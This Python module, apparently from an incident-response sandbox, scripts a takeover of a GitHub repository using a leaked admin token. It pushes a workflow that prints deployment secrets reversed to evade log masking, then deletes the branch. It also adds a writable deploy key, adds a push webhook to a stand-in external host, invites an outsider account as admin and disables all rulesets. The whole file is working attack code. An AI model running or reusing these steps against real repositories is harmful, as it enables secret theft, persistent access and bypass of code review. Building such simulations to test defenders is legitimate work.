"""At GitHub: with a token of somebody who administers a repository, where one leaked."""

import base64
import time
from collections.abc import Iterable
from typing import TYPE_CHECKING, Final

from responder.sandbox.attack.loot import Left, Loot

if TYPE_CHECKING:
    from github import Github
    from github.Repository import Repository

_REPOSITORY: Final = "rentagpu/executor"
_WORKFLOW: Final = ".github/workflows/modal_deploy.yml"
ACCOUNT: Final = "outsider"  # the intruder's own
_PATIENCE: Final = 20.0  # seconds for a run
# Turned round, so that GitHub does not mask it in the log.
_PRINTS_SECRETS: Final = """\
name: modal_deploy
on: {workflow_dispatch: {}}
jobs:
  cache:
    runs-on: ubuntu-24.04
    environment: dev
    steps:
      - env:
          A: ${{ secrets.MODAL_TOKEN_ID }}
          B: ${{ secrets.MODAL_TOKEN_SECRET }}
        run: echo "$A $B" | rev
"""


def run_a_workflow_that_prints_secrets(loot: Loot) -> Iterable[Left]:
    """As it is on a branch of its own, which nobody has to review, and which is gone afterwards."""
    if "GITHUB_TOKEN" not in loot.credentials:
        return
    with _client(loot) as github:
        repository = github.get_repo(_REPOSITORY)
        ref = f"refs/heads/{loot.name('fix-cache', 'bump-actions')}"
        branch = ref.removeprefix("refs/heads/")
        repository.create_git_ref(ref, repository.get_branch(repository.default_branch).commit.sha)
        there = repository.get_contents(_WORKFLOW, ref=branch)
        if isinstance(there, list):
            raise TypeError(f"{_WORKFLOW} is a folder.")
        commit = repository.update_file(_WORKFLOW, "Cache", _PRINTS_SECRETS, there.sha, branch=branch)[
            "commit"
        ]
        asked = repository.get_workflow(_WORKFLOW.rpartition("/")[2])
        run = asked.create_dispatch(branch, throw=True, return_run_details=True)
        number = int(getattr(run, "id", 0))
        _await(repository, number)
        github.requester.requestJsonAndCheck("DELETE", f"{repository.url}/git/{ref}")
    name = repository.full_name
    yield Left("github.branch-pushed", ref, of=name)
    yield Left("github.workflow-changed", commit.sha, of=name)
    yield Left("github.workflow-run", str(number), of=name)


def add_a_deploy_key(loot: Loot) -> Iterable[Left]:
    """It may push, and no revoked token takes that away."""
    if "GITHUB_TOKEN" not in loot.credentials:
        return
    with _client(loot) as github:
        repository = github.get_repo(_REPOSITORY)
        key = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0 " + loot.names.randbytes(32)).decode()
        made = repository.create_key(loot.name("ci", "mirror"), f"ssh-ed25519 {key}", read_only=False)
    yield Left("github.deploy-key-added", str(made.id), of=repository.full_name)


def add_a_webhook(loot: Loot) -> Iterable[Left]:
    """It tells of every push from now on."""
    if "GITHUB_TOKEN" not in loot.credentials:
        return
    with _client(loot) as github:
        repository = github.get_repo(_REPOSITORY)
        url = f"https://{loot.name('metrics', 'relay')}.invalid/in?t={loot.names.randrange(10**9)}"
        made = repository.create_hook("web", {"url": url, "content_type": "json"}, ["push"])
    yield Left("github.webhook-added", str(made.id), of=repository.full_name)


def invite_itself(loot: Loot) -> Iterable[Left]:
    """With an account of its own, for when no token is left."""
    if "GITHUB_TOKEN" not in loot.credentials:
        return
    with _client(loot) as github:
        repository = github.get_repo(_REPOSITORY)
        made = repository.add_to_collaborators(ACCOUNT, "admin")
    yield Left("github.collaborator-invited", str(made.id if made else 0), of=repository.full_name)


def switch_off_the_rules(loot: Loot) -> Iterable[Left]:
    """So that it may push to the default branch without anybody's review."""
    if "GITHUB_TOKEN" not in loot.credentials:
        return
    with _client(loot) as github:
        ask, at = github.requester.requestJsonAndCheck, f"/repos/{_REPOSITORY}/rulesets"
        for one in ask("GET", at)[1]:
            ask("PUT", f"{at}/{one['id']}", input={"enforcement": "disabled"})
            yield Left("github.ruleset-changed", str(one["id"]), of=_REPOSITORY)


DEEDS = (
    run_a_workflow_that_prints_secrets,
    add_a_deploy_key,
    add_a_webhook,
    invite_itself,
    switch_off_the_rules,
)


def _client(loot: Loot) -> "Github":
    from github import Auth, Github  # noqa: PLC0415  # only where there is an attack

    return Github(
        auth=Auth.Token(loot.credentials["GITHUB_TOKEN"]),
        base_url=loot.urls["github"],
        retry=None,
        seconds_between_requests=0,
        seconds_between_writes=0,
    )


def _await(repository: "Repository", number: int) -> None:
    """Until it is over: what it printed is read then."""
    until = time.monotonic() + _PATIENCE
    while repository.get_workflow_run(number).status != "completed" and time.monotonic() < until:
        time.sleep(0.05)
